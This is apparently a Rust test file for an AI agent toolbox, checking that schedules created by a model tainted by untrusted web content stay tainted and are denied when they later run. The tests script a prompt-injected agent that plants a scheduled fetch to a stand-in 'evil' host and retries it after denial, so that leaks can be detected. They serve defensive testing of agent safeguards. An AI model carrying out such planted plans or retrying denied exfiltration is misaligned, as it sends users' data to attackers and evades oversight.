//! Persistent effects that a manipulated model leaves for later.

use crate::bounded::tokio;
use std::time::SystemTime;

use serde_json::{Value, json};
use toolbox::builtin::schedule::{Clock, Runner, Schedules};
use toolbox::context::{Decision, Taint};
use toolbox::store::SqliteStore;
use toolbox::testing::ScriptedModel;
use toolbox::tool::IntoTools;
use toolbox::{ToolBox, ToolCall, ToolContext};

use super::{Web, agent, fetch, stopped};

/// A clock that makes everything long past for those who have another.
struct Past;

impl Clock for Past {
    fn now(&self) -> SystemTime {
        SystemTime::UNIX_EPOCH
    }
}

#[tokio::test]
async fn what_was_planned_by_a_tainted_model_is_nobodys_word_when_its_time_comes() {
    let web = Web::new();
    for (reads_first, leaks) in [(false, true), (true, false)] {
        let store = SqliteStore::in_memory().unwrap();
        let tools = || {
            web.http()
                .into_tools()
                .into_iter()
                .chain(Schedules::new(store.clone()).with_clock(Past).into_tools())
        };
        let plan = json!({"prompt": format!("Fetch {}", web.evil()), "when": {"repeat": "once", "at": "1970-02-01T00:00"}});
        let mut script = ScriptedModel::new();
        if reads_first {
            script = script.calls("http_fetch", fetch(&web.url("/page")));
        }
        let script = script.calls("schedule_create", plan).text("planned");
        agent(script, tools().collect::<Vec<_>>()).run("Read the page").await.unwrap();

        let due = Runner::new(store.clone()).next().await.unwrap();
        assert_eq!((due.schedule.tainted, due.context().is_tainted()), (reads_first, reads_first));
        let script = ScriptedModel::new().calls("http_fetch", fetch(&web.evil())).text("done");
        let run = agent(script, tools().collect::<Vec<_>>());
        run.run(due.schedule.prompt.as_str()).in_context(due.context()).await.unwrap();
        assert_eq!(web.has_leaked(), leaks, "{reads_first}");
        web.server.requests.lock().unwrap().clear();
        web.asked.0.lock().unwrap().clear();
    }
}

#[tokio::test]
async fn a_plan_of_a_tainted_model_is_nobodys_word_wherever_it_is_read() {
    for tainted in [false, true] {
        let web = Web::new();
        let store = SqliteStore::in_memory().unwrap();
        let toolbox = ToolBox::from(Schedules::new(store.clone()).with_clock(Past));
        let taints = async |taint: Taint, tool: &str, arguments: Value| {
            let context = ToolContext::new().with(taint.clone());
            let result = toolbox.call_in(&context, ToolCall::new("1", tool, arguments)).await;
            assert!(!result.is_error(), "{}", result.text());
            taint.is_tainted()
        };
        let of_model = Taint::new();
        if tainted {
            of_model.mark();
        }
        let plan = json!({"prompt": format!("Fetch {}", web.evil()), "when": {"repeat": "once", "at": "1970-02-01T00:00"}});
        taints(of_model, "schedule_create", plan).await;
        // Another conversation is shown it.
        let change = json!({"id": 1, "enabled": true});
        assert_eq!(taints(Taint::new(), "schedule_update", change).await, tainted);
        assert_eq!(taints(Taint::new(), "schedule_list", json!({})).await, tainted);

        // A run that was stopped goes on elsewhere, and tries once more what was denied.
        let due = Runner::new(store.clone()).next().await.unwrap();
        let model = || ScriptedModel::new().calls("http_fetch", fetch(&web.evil())).text("done");
        let run = agent(model(), web.http()).run(due.schedule.prompt.as_str());
        let outcome = run.in_context(due.context()).await.unwrap();
        if tainted {
            let denied = [("call_1", Decision::Deny("no".into()))];
            let again = agent(model(), web.http()).resume(stopped(&web, outcome), denied);
            stopped(&web, again.await.unwrap());
        } else {
            assert!(outcome.is_answered() && web.has_leaked(), "it was the user's wish");
        }
        let which = json!({"query": "fetch"});
        assert_eq!(taints(Taint::new(), "schedule_delete", which).await, tainted);
    }
}
